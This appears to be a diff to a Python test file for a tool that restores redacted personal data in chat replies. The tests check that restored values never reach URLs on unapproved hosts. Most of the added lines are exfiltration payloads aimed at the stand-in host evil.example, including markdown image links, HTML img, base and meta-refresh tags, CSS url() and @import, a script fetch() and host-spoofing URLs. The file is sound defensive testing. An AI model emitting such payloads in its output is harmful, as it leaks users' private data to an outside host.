@@ -7,6 +7,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from desensitize.chat.restore import Restorer
+from desensitize.chat.sent import SentUrls, admits, sent_urls
 from desensitize.testing.strategies import chunkings
 from desensitize.vault.entry import Entry
 from desensitize.vault.record import Record, Snapshot
@@ -80,6 +81,56 @@ REMOTE = [
     "https://evil.example/(a)/<PHONE_1>",
     "<URL_1>&q=<PHONE_1>",
     "https://evil.example/，<PHONE_1>",
+    "https://evil.example/?" + "x" * 9000 + "<PHONE_1>",
+    r"![x](https://evil.example/\)<PHONE_1>)",
+    r"[x](\/\/evil.example/<PHONE_1>)",
+    r"[x](/\evil.example/<PHONE_1>)",
+    r"[x]: /\evil.example/<PHONE_1>",
+    r"[x](<\/\/evil.example/ <PHONE_1>>)",
+    "[x](\n//evil.example/<PHONE_1>)",
+    "[x]:\n  h&#116;tps:evil.example/<PHONE_1>",
+    "[x](h&#116;tp:evil.example/<PHONE_1>)",
+    "[x](ftp:evil.example/<PHONE_1>)",
+    "<ftp:evil.example/<PHONE_1>>",
+    "https://evil.example/?q=)<PHONE_1>",
+    "(https://evil.example/)<PHONE_1>",
+    "](https://evil.example/)<PHONE_1>",
+    "`[`](https://evil.example/)<PHONE_1>",
+    r"\[a](https://evil.example/)<PHONE_1>",
+    "[a [b](x) c](https://evil.example/)<PHONE_1>",
+    "[a] ](https://evil.example/)<PHONE_1>",
+    '"https://evil.example/?q="<PHONE_1>',
+    '"https://evil.example/?q=","<PHONE_1>',
+    "<https://evil.example/?<PHONE_1>",
+    "=https://evil.example/?a>b<PHONE_1>",
+    "[x](https://evil.example/?q= <PHONE_1>)",
+    '<img src=" https://evil.example/?q= <PHONE_1>">',
+    '<img src="/\t/evil.example/<PHONE_1>">',
+    '<img src="/&Tab;/evil.example/<PHONE_1>">',
+    '<img src="ht&#9;tps:&NewLine;evil.example/<PHONE_1>">',
+    '<img src="&#0000000000104;ttps:evil.example/<PHONE_1>">',
+    "<img src=https://evil.example/?a<b<PHONE_1>>",
+    '<img alt="a < b" src="ht&Tab;tps:evil.example/<PHONE_1>">',
+    '<img alt="<b x=\'" src="ht&Tab;tps:evil.example/<PHONE_1>">',
+    '`<b title="` <img src="ht&Tab;tps:evil.example/<PHONE_1>">',
+    '<img alt=x\nSRC = "evil.example/?<PHONE_1>">',
+    '<svg><image xlink:href="evil.example/?<PHONE_1>"/></svg>',
+    '<base href="https://evil.example/"><img src="<PHONE_1>">',
+    '<base href="https://evil.example/">[x](<PHONE_1>)',
+    '<meta http-equiv="refresh" content="0;url=evil.example/<PHONE_1>">',
+    '<a href="x" onclick="go(\'<PHONE_1>\')">',
+    '<p style="background:u\\72l(\\2f\\2f evil.example/<PHONE_1>)">',
+    r"<style>p{background:u\72l(\2f\2f evil.example/<PHONE_1>)}</style>",
+    "<script>fetch('//evil.example/'+'<PHONE_1>')</script>",
+    r"url(\2f\2f evil.example/<PHONE_1>)",
+    'url( "evil.example/ <PHONE_1>")',
+    '@import "evil.example/<PHONE_1>"',
+    "evil.example/?q=<PHONE_1>",
+    "evil.example:8080/<PHONE_1>",
+    "https&period;evil&sol;<PHONE_1>",
+    r"\u002f\u002fevil.example/<PHONE_1>",
+    "[x](mailto:boss@evil.example?body=<PHONE_1>)",
+    '<a href="mailto:boss@evil.example?body=<PHONE_1>">',
 ]
 
 
@@ -95,7 +146,81 @@ LOCAL = [
     "mailto:<EMAIL_1>", "tel:<PHONE_1>", "[mail](mailto:<EMAIL_1>)", "C:\\Users\\<PHONE_1>", "see https://a.example <PHONE_1>",
     "[a](https://a.example)，<PHONE_1>", '"https://a.example", "<PHONE_1>"', "<https://a.example> <PHONE_1>",
     "(https://a.example) <PHONE_1>", "a/b/<PHONE_1>", "12:30 <PHONE_1>", "note: <PHONE_1>", "// <PHONE_1>",
+    "[call](tel:+<PHONE_1>)", '<a href="tel:<PHONE_1>">', '<a href="mailto:<EMAIL_1>">', "[a](x.md)，<PHONE_1>",
+    '<contact phone="<PHONE_1>" mail="to <EMAIL_1>"/>', "<b>x</b><PHONE_1>", '<img src="a.png" alt="<PHONE_1>">',
+    "<ns:phone><PHONE_1></ns:phone>", "x<y and <PHONE_1>", "[INFO]: call <PHONE_1>", "a[1]:<PHONE_1>",
+    "| [a](https://a.example) | <PHONE_1> |", "[note](<PHONE_1>)", "https://a.example\n<PHONE_1>",
+    "1. [a](https://a.example)：<PHONE_1>", '<a href="https://a.example">x</a>，<PHONE_1>', "mail.Read()，<PHONE_1>",
 ]  # fmt: skip
+
+
+@pytest.mark.parametrize("reply", REMOTE)
+def test_what_the_sender_put_into_a_url_comes_back_in_it(reply: str) -> None:
+    known = snapshot()
+    sent = admits("never", SentUrls(sent_urls("", reply, known)))
+    whole = restore(reply, urls=sent)
+    assert "_1" not in whole
+    for cut in range(len(reply)):
+        restorer = Restorer(known, urls=sent)
+        assert restorer.feed(reply[:cut]) + restorer.feed(reply[cut:]) + restorer.flush() == whole
+
+
+PIECES = [
+    "<PHONE_1>", "<URL_1>", "<EMAIL_1>", "https:", "//", "/", "\\", "evil.example", "www.", "[", "]", "(", ")", "`", "<", ">",
+    "<img ", "src", "=", '"', "'", " ", "\n", "url(", "@import ", "&#", "47;", "&Tab;", "</", "<style>", "<base>", ":", "x", "!",
+    "mailto:", "]:", "](", r"\u002f", "?q=", ".", "，",
+]  # fmt: skip
+
+
+@settings(max_examples=300)
+@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join), st.data(), st.sampled_from(["text", "json"]))
+def test_chunks_change_nothing_about_urls(reply: str, data: st.DataObject, encode: str) -> None:
+    known = snapshot()
+    sent = admits("never", SentUrls(sent_urls("", data.draw(st.sampled_from([reply, ""])), known)))
+    for rule in (None, sent):
+        restorer = Restorer(known, urls=rule, encode=encode)  # type: ignore[arg-type]
+        pieces = [restorer.feed(chunk) for chunk in data.draw(chunkings(reply))]
+        whole = Restorer(known, urls=rule, encode=encode)  # type: ignore[arg-type]
+        assert "".join(pieces) + restorer.flush() == whole.feed(reply) + whole.flush()
+
+
+AUTHORITIES = [
+    ("http://<IP_1>:8080/x", "http://<IP_1>.evil.example/"), ("http://<IP_1>/x", "http://<IP_1>@evil.example/"),
+    ("http://u:<PHONE_1>@a.example/", "http://u:<PHONE_1>@evil.example/"),
+    ("http://<EMAIL_1>:<PHONE_1>@a.example/", "http://<EMAIL_1>:<PHONE_1>@evil.example/"),
+    ("http://<IP_1> x", "http://<IP_1>evil.example"), ("http:/<IP_1>/x", "http:/<IP_1>.evil.example"),
+    ("http://<IP_1>", r"http://<IP_1>。evil.example"), ("http&#58;//<IP_1>/", "http&#58;//<IP_1>.evil.example/"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "reply"), AUTHORITIES)
+def test_a_host_the_sender_used_opens_no_other(text: str, reply: str) -> None:
+    known = snapshot(IP="10.1.2.3")
+    sent = admits("never", SentUrls(sent_urls("", text, known)))
+    for source, kept in ((text, False), (reply, True)):
+        for cut in range(len(source)):
+            restorer = Restorer(known, urls=sent)
+            out = restorer.feed(source[:cut]) + restorer.feed(source[cut:]) + restorer.flush()
+            assert ("_1>" in out) == kept
+            assert not kept or out == source
+
+
+HOSTS = [
+    ("https://ok.example/<PHONE_1>", True), ("http://OK.example:8080?q=<PHONE_1>", True), ("[x](https://ok.example/<PHONE_1>)", True),
+    ("//evil.example/?u=https://ok.example/&q=<PHONE_1>", False), ("https:evil.example/?x=://ok.example/<PHONE_1>", False),
+    ("https:/evil.example/://ok.example/<PHONE_1>", False), ("www.evil.example/https://ok.example/<PHONE_1>", False),
+    (r"https://ok.example\@evil.example/<PHONE_1>", False), ("https://ok.example@evil.example/<PHONE_1>", False),
+    ("https://ok.example.evil.example/<PHONE_1>", False), ("https://ok.example<PHONE_1>", False),
+    ("evil.example/?u=https://ok.example/<PHONE_1>", False), ("https://\tok.example/<PHONE_1>", False),
+    ('<img srcset="https://ok.example/a 1x, https://evil.example/<PHONE_1> 2x">', False),
+    ('<p style="background:url(https://ok.example/a);x:url(https://evil.example/<PHONE_1>)">', False),
+    ('<meta content="0;url=https://evil.example/https://ok.example/<PHONE_1>">', False),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("reply", "opened"), HOSTS)
+def test_hosts_that_are_allowed_are_the_hosts(reply: str, opened: bool) -> None:
+    assert (PHONE in restore(reply, urls=admits(("ok.example",), SentUrls()))) == opened
 
 
 @pytest.mark.parametrize("reply", LOCAL)
@@ -109,7 +234,8 @@ def test_a_token_that_is_the_whole_destination() -> None:
 
 def test_the_settings_may_open_urls() -> None:
     assert restore(
-        "https://ok.example/<PHONE_1>", urls=lambda prefix: prefix == "https://ok.example/<PHONE_1>"
+        "https://ok.example/<PHONE_1>",
+        urls=lambda url, form, after, final: url + form == "https://ok.example/<PHONE_1>",
     ).endswith(PHONE)
 
 
